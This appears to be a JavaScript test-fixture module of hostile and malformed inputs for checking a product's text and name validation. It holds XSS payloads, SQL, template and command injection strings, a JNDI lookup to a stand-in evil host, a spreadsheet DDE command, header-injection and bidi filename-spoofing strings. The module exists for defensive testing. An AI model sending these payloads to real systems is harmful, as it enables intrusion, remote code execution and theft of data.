// Texts that have made other programs stumble, and what is to become of them here (SPEC section 9), reckoned without the
// product: JavaScript's own Unicode, not the worker's.

// Written with escapes where one would not see what stands there.
const lines = {
    markup: [
        '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '\' onmouseover=\'alert(1)',
        '" autofocus onfocus="alert(1)',
        '</textarea><script>alert(1)</script>', '</title></head><body onload=alert(1)>', '--><svg/onload=alert(1)>',
        '<!-- a -->',
        '<![CDATA[ a ]]>', '<!doctype html>', '<?xml version="1.0"?>', '</option></select><b>b</b>', '</q></p></div></main>',
        '`onerror=alert(1) `', '<a href="javascript:alert(1)">a</a>', '&lt;b&gt; &amp;amp; &#60; &#x3c;',
        '&notit; &copy &nbsp;',
        '<plaintext>', '</script><script>', '<base href=//evil.example>', '<\u017fcript>alert(1)</\u017fcript>',
        '\uff1cb\uff1e', '<', '">',
    ],
    sql: [
        '\'; DROP TABLE decision; --', '1 OR 1=1', '" OR ""="', '\') UNION SELECT seat FROM person --', '%_%\' ESCAPE \'\\',
        'NULL',
        '/* a */ -- b', 'x\'00\'',
    ],
    templates: [
        '{{topic}} {{{topic}}}', '{{=<% %>=}}', '{{#people}}{{name}}{{/people}}', '{{>head}}', '{{! a }}', '{{&topic}}',
        '{{^x}}', '{{', '}}',
        '${7*7} #{7*7} <%= 7*7 %>', '{% include "x" %}', '%s%s%n%d', '$(id) `id` $HOME', '\x24{jndi:ldap://evil.example/a}',
    ],
    yaml: [
        '---', '...', '--- a', '- a', '? a', 'key: value', 'a: b: c', ': ', '# a', 'a # b', '&a *a', '*a',
        '!!js/function a', '!a', '@a', '%YAML 1.2',
        '| a', '> a', '[a, b', '{a: b}', ']', '}', '"', '\'', '\'a\' "b"', '~', 'null', 'Null', 'yes', 'No', 'on', 'true',
        '1e3', '0x1F', '0o17', '1_000',
        '12:30:45', '2026-11-22', '.inf', '<<', '=', 'status: abandoned', 'author: somebody else',
    ],
    markdown: [
        '[a](http://evil.example)', '![a](http://evil.example/x.png)', '[a]: http://evil.example',
        '[M1]: http://evil.example "a"', '[a][M1]', '![M1]',
        '[M1](javascript:alert(1))', '(http://evil.example)', '<http://evil.example>', 'http://evil.example/a?b&c',
        'HTTPS://evil.example', 'www.evil.example',
        'WWW.evil.example', 'ftp://evil.example/', 'http://www.evil.example www.www.', '# heading', '## Scenario',
        '###### a', 'a #', 'a ##', '#', '=====', '-----', '- - -',
        '***', '* a', '+ a', '1. a', '1) a', '123456789. a', '0.', '> a', '>', '```', '~~~', '``` sh', 'a ` b', '``a``',
        '**a**', '__a__', '*a*', '_a_', '***a', 'a**', '**', '~~a~~',
        '~a~', '| a | b |', '|---|---|', ':--|', 'a | b', '[ ] a', '[x] a', '[^1]', '[^1]: a', 'a\\', '\\', '\\\\*a*',
        '\\<b>', 'a  ', '&#42;a&#42;', '&ast;', '!', '!![a', '\\[a](b)', ': a', '<b>a</b>',
        '<!-- author this yourself -->', '[M1] a', '">**a**', '**, accepting **', '*(a)*', '"*a*"',
    ],
    sheets: ['=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '@SUM(A1:A9)', '=HYPERLINK("http://evil.example";"a")',
        'a,b;c', '"a","b"', '""', ',', 'a|b│c'],
    json: ['","admin":true,"', '\\u003cb\\u003e', '\\', '\\"', '{"error":{}}', '[1,2', '\\u0000', '\\ud800', '__proto__',
        'constructor', 'toString', '\u{10fffe} a'],
    logs: ['a" level=error event=started pid="1', 'level=error event=fake', 'a=b c="d', 'at=2026-11-22T00:00:00Z'],
    headers: ['Set-Cookie: maude=stolen', 'a%0d%0aSet-Cookie:%20maude=stolen', '%0aLocation: //evil.example',
        '//evil.example', '/\\evil.example', '%00', '%', '%zz', '%E0%80', '+', 'a+b', 'a&text=b', 'a;b', 'a=b'],
    unicode: [
        '\u05e9\u05dc\u05d5\u05dd abc', '\u0627\u0644\u0633\u0644\u0627\u0645 (abc)', 'a\u200eb\u200fc', 'a\u061cb',
        'a\u200bb', '\u200b\u200b', 'a\u2060b\u00adc', '\u200d', 'a\ufeffb', '\ufeffa', '\ufffd',
        'Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b', '\u0301a', 'e\u0301', 'A\u030a',
        '\u212b', '\u2126', '\ufb01', '\u1100\u1161\u11a8', '\uac01', '\u0344', '\u1e9b\u0323', 'q\u0307\u0323',
        '\u0130\u0131 \u017f\u212a', '\ud83c\udff3\ufe0f\u200d\ud83c\udf08',
        '\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67', '\ud83c\udde9\ud83c\uddea', '\ud83d\udc4d\ud83c\udfff',
        '\u{e0041}\u{e007f}',
        '\uff07\uff1b\uff0d\uff0d', '\u2028'.concat('a'), 'a\u2028b', 'a\u2029b', 'a\u0085b', 'a\u00a0b', 'a\u3000b',
        '\ufff9a\ufffab\ufffb', '\ufdd0', '\ufffe', '\u{1f4a9}', '\u0378', '\ue000',
        '\u0e33\u0e33\u0e33', '\u0c1c\u0c4d\u0c1e\u200c\u0c3e', 'null\u200b', '\u1680a', '\u180ea',
    ],
    blanks: ['a\nb', 'a\r\nb', 'a\rb', 'a\tb', '\n# a', 'a\n---\nb', 'a\n\n<script>', '\ta', ' a ', 'a   b',
        'a\u000bb\u000cc', '\u3000a\u3000', 'a\nSet-Cookie: b=c', '\na'],
};

// [kind, text]: taken as they are, but for what `kept` says.
export const texts = Object.entries(lines).flatMap(([kind, list]) => list.map(text => [kind, text]));

// As long as a field allows, of different characters.
export function longTexts(limit) {
    return ['x', '<', '&', '*', '\\', '"', '\u00e9', '\u0f71', '\ud83d\ude80', 'e\u0301', 'x\u202fx'].map(unit => {
        const { length } = [...unit.normalize('NFC')];
        return ['long', `${unit.repeat(Math.floor(limit / length))}${'.'.repeat(limit % length)}`];
    });
}

// Longer than that by one.
export function tooLong(limit) {
    return longTexts(limit).map(([, text]) => text + '.').concat('x'.repeat(5000), '<b>'.repeat(limit),
        '{{a}}'.repeat(1000));
}

const bytes = (...values) => Buffer.from(values.flatMap(it => typeof it === 'string' ? [...Buffer.from(it)] : it));

// Never taken, whatever the field: [why, text or bytes].
export const forbidden = [
    ...['\u0000', 'a\u0000b', '<b>\u0000', 'a\u0007b', '\u001b[31mred\u001b[0m', 'a\u0008b', '"\u007f', 'a\u0080b',
        '\u009b31m', '\u001c&', 'a\u001f{{b}}']
        .map(text => ['control', text]),
    ...['a\u202eb', '<b>\u202a"', '\u202b\u202c', 'a\u202db', '\u2066a\u2069', 'x\u2067\u2068',
        'evil\u202egnp.exe'].map(text => ['bidi', text]),
    ...[bytes('a', 0xff), bytes('<b>', 0xfe), bytes(0xc0, 0x80), bytes('a', 0xc0, 0xaf, 'b'), bytes(0xe0, 0x80, 0xbc),
        bytes(0xf0, 0x80, 0x80, 0xbc), bytes('"', 0xed, 0xa0, 0x80),
        bytes(0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80), bytes(0xf4, 0x90, 0x80, 0x80), bytes('a', 0xc3), bytes(0xe2, 0x80),
        bytes(0xf0, 0x9f, 0x98), bytes(0x80), bytes(0xc3, '"'), bytes(0xe2, '<b>'),
        bytes(0xf8, 0x88, 0x80, 0x80, 0x80)].map(text => ['utf8', text]),
];

// Nothing but blanks, for the product.
export const blanks = ['', ' ', '   ', '\t', '\n', '\r\n\r\n', '\u00a0', '\u3000 \u2003', '\u2028', '\u0085'];

// People's names that are allowed and are not harmless.
export const names = [
    'O\'Brien', 'null', 'No', 'y', 'true', '1e3', '0x1F', '2026-11-22', '12.5', '1_000', '0', '-1', '.inf', '--', '-- x',
        'a - b', '---', '...', '_a_', '__a__', '__proto__', 'constructor', 'x\' OR \'1\'-\'1', '\'\'', '\'a\'', '- a',
        '1. a',
    'www.evil.example', 'Set-Cookie', 'on', 'undefined', 'admin', 'somebody', 'The facilitator', 'Do nothing', 'Zoe\u0308',
        '\u212bngstr\u00f6m', '\u0130stanbul', 'Stra\u00dfe', '\ufb01ne', '\u01c5', 'Z\u0300\u0301\u0302\u0303\u0304\u0305',
    '\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645', '\u0928\u092e\u0938\u094d\u0924\u0947', '\u05e9\u05dc\u05d5\u05dd',
        '\u0639\u0628\u062f \u0627\u0644\u0644\u0647', '\u0430dmin', '\uff21\uff44\uff4d\uff49\uff4e', '\u1100\u1161\u11a8',
        '\u0663\u0664', 'W'.repeat(24), '\u0bb8\u0bcd\u0bb0\u0bc0',
].filter(name => /[\p{L}\p{Nd}]/u.test(name));

// ---- what becomes of them ---------------------------------------------------------------------------------------------

const bidi = /[\u202a-\u202e\u2066-\u2069]/u;
const breaks = /\r\n|[\t-\r\u0085\u2028\u2029]/gu;

// A text in a field for a line of it, once it is accepted.
export function kept(text) {
    return text.replace(breaks, ' ').normalize('NFC').replace(/^\p{Zs}+|\p{Zs}+$/gu, '');
}

export function lengthOf(text) {
    return [...text].length;
}

// A name, once it is accepted.
export function keptName(name) {
    return name.normalize('NFC').replace(/^\p{Zs}+|\p{Zs}+$/gu, '').replace(/ +/g, ' ');
}

// What of a refused text can be shown again in its form. A run of replacement characters counts as one: how many bytes each of
// them stands for is anybody's choice.
export function showable(text) {
    const read = Buffer.isBuffer(text) ? new TextDecoder().decode(Buffer.concat([Buffer.from(' '), text])).slice(1) : text;
    return onePerRun([...read.replace(/[\v\f\u0085]/g,
        ' ')].filter(it => !bidi.test(it) && !/(?![\t\n\r])\p{Cc}/u.test(it)).join(''));
}

export function onePerRun(text) {
    return text.replace(/\ufffd+/g, '\ufffd');
}

// Whether a name may not be one because of what stands in it.
export function isNoName(text) {
    return Buffer.isBuffer(text) || /[^\p{L}\p{M}\p{Nd} \-_'.\u200c\u200d]/u.test(text.normalize('NFC').replace(/^\p{Zs}+|\p{Zs}+$/gu, ''))
        || lengthOf(keptName(text)) > 24;
}
